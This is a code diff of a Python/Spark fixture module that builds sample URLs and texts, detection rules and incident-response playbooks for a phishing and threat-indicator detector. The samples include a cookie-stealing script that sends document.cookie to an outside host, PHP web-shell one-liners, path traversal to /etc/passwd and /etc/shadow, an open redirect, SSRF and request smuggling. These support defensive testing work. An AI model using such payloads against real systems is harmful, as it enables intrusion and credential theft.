@@ -108,86 +108,149 @@ def flows(spark: SparkSession, sf_dir: str) -> DataFrame:
 
 # --- URLs and text -------------------------------------------------------------------------------------
 
-_JWT = "eyJhbGciOiJub25lIn0.eyJzdWIiOiI0MiJ9."
-# One invented sample per trick, so that no indicator is checked on misses alone.
+_UNSIGNED = "eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJpZCI6MX0."
+_SIGNED = "eyJhbGciOiJIUzI1NiJ9.eyJpZCI6MX0.c2ln"
+# Own samples, written from the definition of each indicator: inputs it must see, and inputs that only come near.
 EXAMPLES: tuple[tuple[int, str, str], ...] = tuple(
     (9_000_000_000 + n, url, text)
     for n, (url, text) in enumerate(
         (
-            ("https://drop​box.com/reset", "Storage notice"),
-            ("https://mail-check.net/", "<p style='display: none'>free</p><p>Hello</p>"),
-            ("http://www.xn--pple-43d.com/id", "Please sign in"),
-            ("http://аррӏе.com/verify", "Account check"),
-            ("https://tinyurl.com/z9", "Confirm at http://bit.ly/ok1 or https://goo.gl/x"),
-            ("https://paypa1.com/", "Wallet update"),
-            ("https://g00gle.com/a", "Search news"),
-            ("http://thief.example/", "<script>new Image().src='//t.co/?c='+document.cookie</script><SCRIPT>1</SCRIPT>"),
-            ("https://reset-password.example/", "Reset your account password, verify now"),
-            ("https://files.example/", "See <a href='https://files.example/plan.docm'>plan</a>"),
-            ("https://helpdesk.example/", "=48=65=6C=6C=6F=2C now"),
-            ("http://outer.example/", "<img src=\"http://intranet:8080/x\"> and http://192.168.4.4/admin"),
-            ("https://micr0soft-login.xyz/", "Your subscription has ended"),
-            ("https://linkedin-check.example.com/", "Profile views"),
-            ("http://pay-to-recover.example/", "Files are encrypted. Pay 2 BTC to recover, then decrypt."),
-            ("https://pypi-package-update.com/", "Critical update of your package"),
-            ("https://ads.example/c?target=landing", "Half price"),
-            ("https://wires.example/", "From: CFO\nPlease wire the funds today"),
-            ("http://proxy.example/", "POST / HTTP/1.1\nTransfer-Encoding: chunked\n\n0\n\nGET /a HTTP/1.1"),
-            ("https://bank.example/profile.php?n=1", "See your profile"),
-            ("https://cdn.example/.well-known/azure-login", "Sign in"),
-            ("http://lib.example/", "<script src=\"https://c.example/l.js\" integrity=\"sha256-short\"></script>"),
-            ("http://inline.example/", "<script src=\"data:text/javascript,a()\"></script><script>b()</script>"),
-            ("http://up.example/", "<?php system($_GET['c']); ?>"),
-            ("https://api.example?user=a&user=b", "Merge accounts"),
-            ("https://docs.example/../../../etc/passwd", "Read me"),
-            ("https://auth.example/go?redirect_uri=http://evil.example", "Allow the device"),
-            ("https://render.example/?t={{7*7}}", "Report"),
-            ("https://up.example/a.php%00.jpg", "Photo"),
-            ("https://api.example/webhooks?target=http://out.example", "Settings"),
-            ("https://api.example/auth", "Authorization: Bearer " + _JWT),
-            ("http://pool.example/", "<script>new WebAssembly.Module(b); x.mine();</script>"),
-            ("https://api.example/graphql?query=query { users { password } }", "Docs"),
-            ("https://docs.example/bill.pdf#page=2", "Bill"),
-            ("http://chat.example/", "<script>w = new WebSocket('wss://a'); w.send(1)</script>"),
-            ("https://api.example/u?s=__proto__[admin]=1", "Settings"),
-            ("http://art.example/", "<svg width=1 onload=\"go()\"/>"),
-            ("https://sso.example/auth?response_type=code&client_id=7", "Connect"),
-            ("https://sso.example/auth?response_type=code&state=9", "Connect"),
-            ("https://docs.example/report.iso", "Report"),
-            ("http://q.8.8.4.4.tunnel.com/", "Network"),
-            ("http://app.example/", "<link rel=\"manifest\" href=\"https://bad.example/m.json\">"),
-            ("https://up.example/file.php.png", "Image"),
-            ("http://docs.example/", "get invoice.pdf.exe here"),
-            ("http://relay.example/", "From: a@x\nTo: b@y\nSubject: Hi\n\nhttp://z"),
-            ("https://login.example?username=root&password=x", "Login failed"),
-            ("https://api.example/p?url=internal:8080", "Health"),
-            ("http://frame.example/", "<style>iframe{opacity:0;}</style><iframe src='//bank'></iframe>"),
-            ("http://box.example/", "<div class=\"browser-chrome\"><iframe src='//p'></iframe></div>"),
-            ("http://work.example/", "<script>const w = new Worker('m.js')</script>"),
-            ("https://metamask-help.example/approve?contract=0xab", "Approve"),
-            ("bankapp://reset?token=5", "Tap to reset"),
-            ("http://side.example/", "<script>new SharedArrayBuffer(64)</script>"),
-            ("http://hop.example/", "<meta http-equiv=\"refresh\" content=\"0; url=http://p\">"),
-            ("http://form.example/", "<form action='/x'><input type=\"password\"></form>"),
-            ("https://banking.example/", "URGENT: account will be suspended within 24 hours, verify"),
-            ("http://x.example/", "<script>fetch('//b/api', {credentials: 'include'})</script>"),
-            ("hxxps://google.com@trap.xyz/reset", "Alert"),
-            ("https://www.paypal.com.trap.net/", "Account limited"),
-            ("http://%70%68%69%73%68%2e%63%6f%6d/a", "Preview"),
-            ("https://fine.com/%20%20%20%20%20%20%20%20%20%20%20%20x=1", "Update"),
-            ("http://call.example/", "Voice message attached: note.mp3"),
-            ("https://medicare-news.org", "COVID-19 results"),
-            ("http://agent.example/", "<script>if(navigator.userAgent)window.location='//e'</script>"),
-            ("http://air.example/", "Free WiFi here, login now"),
-            ("http://phish.com", "plain"),
-            ("http://192.168.1.1:8080/reset", "router"),
-            ("http://[2001:db8::1]:8443/x", "six"),
-            ("https://bit.ly/abc", "short"),
-            ("https://shop.co.uk:444/a/b.HTML?x=1&y=2#z", "Host.Domain, order 212-555-0187 or 078-05-1120"),
-            ("https://User@News.Example.COM/Path%2Fx+y?session=1", "SGVsbG8="),
+            # characters and encodings
+            ("https://harbour\u200btickets.example/seat", "A zero-width space stands in the host"),
+            ("https://harbour-tickets.example/seat", "A hyphen stands in the host"),
+            ("https://kiosk.example/day", "<div style=\"color:red;DISPLAY :none\">ghost line</div>"),
+            ("https://kiosk.example/night", "<div style=\"display:block\">plain line</div>"),
+            ("https://shop.xn--bcher-kva.example/", "An encoded label below another one"),
+            ("https://axn--b.example/", "The letters, but not at the start of a label"),
+            ("https://b\u00fccherstube.example/", "A letter beyond ASCII in the host"),
+            ("https://garden.example/\u00fcber", "A letter beyond ASCII in the path"),
+            ("https://post.example/", "Body: =41=42=43=44=45 end"),
+            ("https://post.example/two", "Body: =41=42 a=1 end"),
+            ("https://%6Daple%2Eexample/leaf", "Escapes in the host"),
+            ("https://maple.example/%6Deaf", "Escapes in the path"),
+            ("https://wide.example/" + "%20" * 11 + "z", "Eleven escaped spaces in a row"),
+            ("https://wide.example/" + "%20" * 9 + "z", "Nine escaped spaces in a row"),
+            ("https://park:lot@orchard.example/", "Somebody in front of the host"),
+            ("hxxp://orchard.example/", "A scheme written to be harmless"),
+            ("https://orchard.example/a@b", "The sign in the path"),
+            ("https://files.example/shell.php%00.gif", "An escaped zero byte"),
+            ("https://files.example/shell.php%30.gif", "An escaped digit"),
+            # imitated names
+            ("https://g1thub.com/", "One digit in a known name"),
+            ("https://gardenhub.com/", "A longer name of one's own"),
+            ("https://netflix-billing.example/", "A known name in a longer label"),
+            ("https://netflix.com/billing", "The name itself"),
+            ("https://live-support.example/", "A short name between hyphens"),
+            ("https://olives.example/", "A short name inside a word"),
+            ("https://login.adobe.com.parcel-desk.net/x", "A known host in front of another one"),
+            ("https://parcel-desk.net/adobe.com", "A known host in the path"),
+            ("https://edge.example/.well-known/whatsapp/file", "A foreign name below the well-known path"),
+            ("https://edge.example/.well-known/security.txt", "No foreign name"),
+            # queries
+            ("https://hub.example/out?next=/home&a=1", "Where to go next"),
+            ("https://hub.example/out?nextday=1", "Another parameter"),
+            ("https://hub.example/out?return=https%3A//far.example", "An absolute place to return to"),
+            ("https://hub.example/out?return=/near", "A relative place to return to"),
+            ("https://hub.example/list?id=4&sort=up&id=5", "A name twice"),
+            ("https://hub.example/list?id=4&ids=5", "Two names"),
+            ("https://hub.example/door?login=ann&pwd=b", "Name and pass word in the query"),
+            ("https://hub.example/door?login=ann", "Only a name"),
+            ("https://hub.example/fetch?src=http://192.168.7.9/", "A private address asked for"),
+            ("https://hub.example/fetch?src=http://192.0.2.9/", "A public address asked for"),
+            ("https://sign.example/o?response_type=token&scope=a", "A grant without state"),
+            ("https://sign.example/o?response_type=token&scope=a&state=q8", "A grant with state"),
+            ("https://card.example/hello?name={{ 3 * 3 }}", "A template in the query"),
+            ("https://card.example/hello?name={3}", "Single braces"),
+            ("https://card.example/webhook/add?to=https://far.example/in", "A hook to elsewhere"),
+            ("https://card.example/webhook/add?to=inbox", "A hook to the inside"),
+            ("https://data.example/graphql?query={ staff { salary } }", "A question in the query"),
+            ("https://data.example/graphql", "No question"),
+            ("https://data.example/set?__proto__.level=9", "A parent object in the query"),
+            ("https://data.example/set?proto=9", "A plain name"),
+            ("https://club.example/account/7?tab=pay", "An own page with a query"),
+            ("https://club.example/account/7", "An own page without one"),
+            # paths
+            ("https://disk.example/a/../../b/../c", "Three steps up"),
+            ("https://disk.example/a..b/c", "Dots that climb nowhere"),
+            ("https://disk.example/x/etc/shadow", "A system file"),
+            ("https://disk.example/etcetera", "A word that begins alike"),
+            ("https://disk.example/paper.pdf#annot=4", "A part of a paper"),
+            ("https://disk.example/paper.pdf", "The whole paper"),
+            ("https://disk.example/tools.vhd", "A disk image"),
+            ("https://disk.example/tools.vhd.txt", "Its description"),
+            ("https://disk.example/cat.asp.jpeg", "Two endings"),
+            ("https://disk.example/cat.jpeg", "One ending"),
+            ("https://disk.example/", "Open the sheet budget.xlsm first"),
+            ("https://disk.example/sheets", "Open the sheet budget.xlsx first"),
+            ("https://198.51.100.7.deep.cave.example/", "An address in front of a name"),
+            ("https://198.51.cave.example/", "Half an address in front of a name"),
+            ("walletapp://pair/4", "A scheme of an app"),
+            ("ftp://disk.example/pair/4", "A scheme of the web"),
+            # scripts
+            ("https://page.example/1", "<script>a()</script><SCRIPT src='b.js'></SCRIPT>"),
+            ("https://page.example/2", "The word script, no tag"),
+            ("https://page.example/3", "<script src=\"data:text/javascript;base64,YQ==\"></script>"),
+            ("https://page.example/4", "<script src=\"/a.js\" integrity=\"sha384-tooshort\"></script>"),
+            ("https://page.example/5", "<script src=\"/a.js\" integrity=\"sha256-" + "Q" * 43 + "=\"></script>"),
+            ("https://page.example/6", "<?PHP passthru ($x); ?>"),
+            ("https://page.example/7", "<?php print(1); ?>"),
+            ("https://page.example/8", "m = WebAssembly.instantiate(c); coin.mine(m)"),
+            ("https://page.example/9", "m = WebAssembly.instantiate(c)"),
+            ("https://page.example/10", "s = new WebSocket(u); s.onmessage = f"),
+            ("https://page.example/11", "s = new WebSocket(u)"),
+            ("https://page.example/12", "<svg viewBox='0 0 1 1' onload=draw()>"),
+            ("https://page.example/13", "<svg viewBox='0 0 1 1'></svg> onload"),
+            ("https://page.example/14", "q = new Worker(blob)"),
+            ("https://page.example/15", "q = new SharedArrayBuffer(8)"),
+            ("https://page.example/16", "send(document.cookie)"),
+            ("https://page.example/17", "send(document.title)"),
+            ("https://page.example/18", "fetch(u, {credentials: \"include\"})"),
+            ("https://page.example/19", "fetch(u, {credentials: \"omit\"})"),
+            ("https://page.example/20", "window.location.replace(u)"),
+            ("https://page.example/21", "Key: " + _SIGNED + " and then " + _UNSIGNED),
+            ("https://page.example/22", "Key: " + _SIGNED),
+            # markup
+            ("https://form.example/1", "<iframe src=/pay></iframe><style>iframe { opacity : 0 }</style>"),
+            ("https://form.example/2", "<iframe src=/pay></iframe><style>iframe { opacity : 0.5 }</style>"),
+            ("https://form.example/3", "<div class=\"top url-bar\"></div><iframe src=/pay></iframe>"),
+            ("https://form.example/4", "<div class=\"top\"></div><iframe src=/pay></iframe>"),
+            ("https://form.example/5", "<FORM method=post><input name=p type=password></FORM>"),
+            ("https://form.example/6", "<FORM method=post><input name=p type=text></FORM>"),
+            ("https://form.example/7", "<meta http-equiv='Refresh' content='3;url=/b'>"),
+            ("https://form.example/8", "<meta http-equiv='Content-Type' content='text/html'>"),
+            ("https://form.example/9", "<link type=a rel='manifest' href='https://far.example/app.json'>"),
+            ("https://form.example/10", "<link type=a rel='manifest' href='/app.json'>"),
+            ("https://form.example/11", "See http://printer:631/ and http://172.20.0.5/x"),
+            ("https://form.example/12", "See http://printer.example:631/ and http://172.40.0.5/x"),
+            ("https://form.example/13", "GET /a HTTP/1.1\nHost: q\n\nGET /b HTTP/1.0\n"),
+            ("https://form.example/14", "GET /a HTTP/1.1\nHost: q\n"),
+            ("https://form.example/15", "From: q@r.example\nTo: s@t.example\nSubject: lunch\n\nSoup"),
+            ("https://form.example/16", "From: q@r.example\nSubject: lunch\n\nSoup"),
+            # persuasion
+            ("https://goo.gl/Qx", "Then on by https://t.co/9 and https://bit.ly/8"),
+            ("https://letter.example/1", "Verify the account, then choose a new password"),
+            ("https://letter.example/2", "All drives are encrypted: pay bitcoin, and we decrypt and recover them"),
+            ("https://letter.example/3", "URGENT, act within 24 hours or we suspend the card"),
+            ("https://letter.example/4", "The COO asks you to transfer it today"),
+            ("https://letter.example/5", "The COO asks you to lunch today"),
+            ("https://letter.example/6", "The cook asks you to transfer the soup"),
+            ("https://get-rubygems.example/", "A package with an update"),
+            ("https://get-gems.example/", "A package with an update"),
+            ("https://coin.example/?contract=0x9f", "Sign it"),
+            ("https://coin.example/?contract=9f", "Sign it"),
+            ("https://letter.example/7", "You have a voice message, play hello.mp4"),
+            ("https://letter.example/8", "Wi-Fi in the lounge: open the page and login"),
+            ("https://letter.example/9", "Wi-Fi in the lounge is free"),
+            ("https://ward.example/", "Your hospital bill"),
+            ("https://branch.example/", "Your invoice from the bank"),
+            # forms of URLs
+            ("http://192.168.1.1:8080/panel", "an address with a port"),
+            ("http://[2001:db8::5]:8443/y", "the other kind of address"),
+            ("https://market.co.uk:444/a/b.HTML?x=1&y=2#z", "Mr. Grey, order 212-555-0143 or 219-09-9999"),
+            ("https://Guest@Press.Example.ORG/Path%2Fx+y?session=1", "SGVsbG8="),
             ("http://com/", "deadbeef"),
-            ("notaurl", "say \\u0041"),
-            ("https://bad.example/100%", ""),
+            ("plainword", "say \\u0041"),
+            ("https://odd.example/100%", ""),
         )
     )
 )
@@ -251,7 +314,7 @@ def entropy_sql(text: str) -> str:
 
 MAILS = """mails AS (
   SELECT d.doc_id, p.url, d.text, l.toxic AS label
-  FROM documents d JOIN labels l USING (doc_id) JOIN pages p ON p.page_id = d.doc_id % (SELECT count(*) FROM pages))"""
+  FROM documents d JOIN labels l USING (doc_id) JOIN (SELECT *, row_number() OVER (ORDER BY page_id) - 1 AS place FROM pages) p ON p.place = d.doc_id % (SELECT count(*) FROM pages))"""
 
 
 def mails(spark: SparkSession, sf_dir: str) -> DataFrame:
@@ -296,26 +359,27 @@ INDICATOR_COLUMNS = "type, value, threat_type, confidence"
 BRAND_NAMES = ("paypal", "google", "dropbox", "tionthan", "spam-farm", "theres")
 RULE_COLUMNS = "name, type, pattern, severity, description, mitigations, active"
 RULES = (
-    ("Org_Host", "domain", ".*[.]example[.]org$", "medium", "hosts of one zone", "Review host|Block domain at firewall", True),
-    ("Spam_Farm", "domain", "spam-farm", "critical", "link farm", "Block domain at firewall|Isolate affected systems", True),
-    ("Html_File", "file", "[.](html|crypt)$", "high", "file endings", "Quarantine file", True),
-    ("Known_Digest", "hash", sha256(b'{"k": 7}').hexdigest(), "critical", "one event body", "Isolate affected systems", True),
+    ("Org_Host", "domain", ".*[.]example[.]org$", "medium", "hosts of one zone", "Ask the zone's owner|Watch the zone", True),
+    ("Spam_Farm", "domain", "spam-farm", "critical", "link farm", "Drop its links|Watch the zone", True),
+    ("Org_Host", "domain", "^press[.]", "medium", "a second pattern of the same name", "Ask the zone's owner", True),
+    ("Html_File", "file", "[.](html|crypt)$", "high", "file endings", "Open it in a viewer", True),
+    ("Known_Digest", "hash", sha256(b'{"k": 7}').hexdigest().upper(), "critical", "one event body, in capitals", "Take the sender off line", True),
     ("Retired", "domain", ".*", "critical", "switched off", "Nothing", False),
 )
 PLAYBOOK_COLUMNS = "playbook, triggers"
 PLAYBOOKS = (
-    ("Ransomware response", "ransomware_detected|mass_file_encryption"),
-    ("Encryption lockdown", "mass_file_encryption"),
+    ("Locked files", "mass_file_encryption"),
+    ("First hour", "ransomware_detected|mass_file_encryption|lateral_movement"),
 )
 # playbook, step, action, type, priority, parameters as JSON
 ACTION_COLUMNS = "playbook, step, action, action_type, priority, parameters"
 ACTIONS = (
-    ("Ransomware response", 1, "isolate_host", "network", "critical", '{"ip_address":"{source_ip}","quarantine_duration":"3600"}'),
-    ("Ransomware response", 2, "collect_forensic_data", "investigation", None, '{"artifacts":"[\\"memory_dump\\",\\"process_list\\"]"}'),
-    ("Ransomware response", 3, "block_ioc", "firewall", None, '{"iocs":"[\\"{malicious_hash}\\",\\"{c2_server}\\"]"}'),
-    ("Ransomware response", 4, "alert_soc", "notification", None, '{"severity":"critical","recipients":"[\\"soc@example.com\\"]"}'),
-    ("Encryption lockdown", 1, "freeze_shares", "storage", "high", '{"host":"{source_ip}"}'),
-    ("Encryption lockdown", 2, "isolate_host", "network", None, '{"ip_address":"{source_ip}"}'),
+    ("First hour", 1, "alert_soc", "notification", "high", '{"severity":"high","recipients":"[\\"night-desk@example.net\\",\\"lead@example.net\\"]"}'),
+    ("First hour", 2, "block_ioc", "firewall", "high", '{"iocs":"[\\"{c2_server}\\",\\"{malicious_hash}\\",\\"{source_ip}\\"]"}'),
+    ("First hour", 3, "isolate_host", "network", None, '{"ip_address":"{source_ip}","quarantine_duration":"900"}'),
+    ("Locked files", 1, "stop_backups", "storage", "critical", '{"host":"{source_ip}"}'),
+    ("Locked files", 2, "collect_forensic_data", "investigation", None, '{"artifacts":"[\\"open_files\\"]"}'),
+    ("Locked files", 3, "isolate_host", "network", None, '{"ip_address":"{source_ip}"}'),
 )
 
 
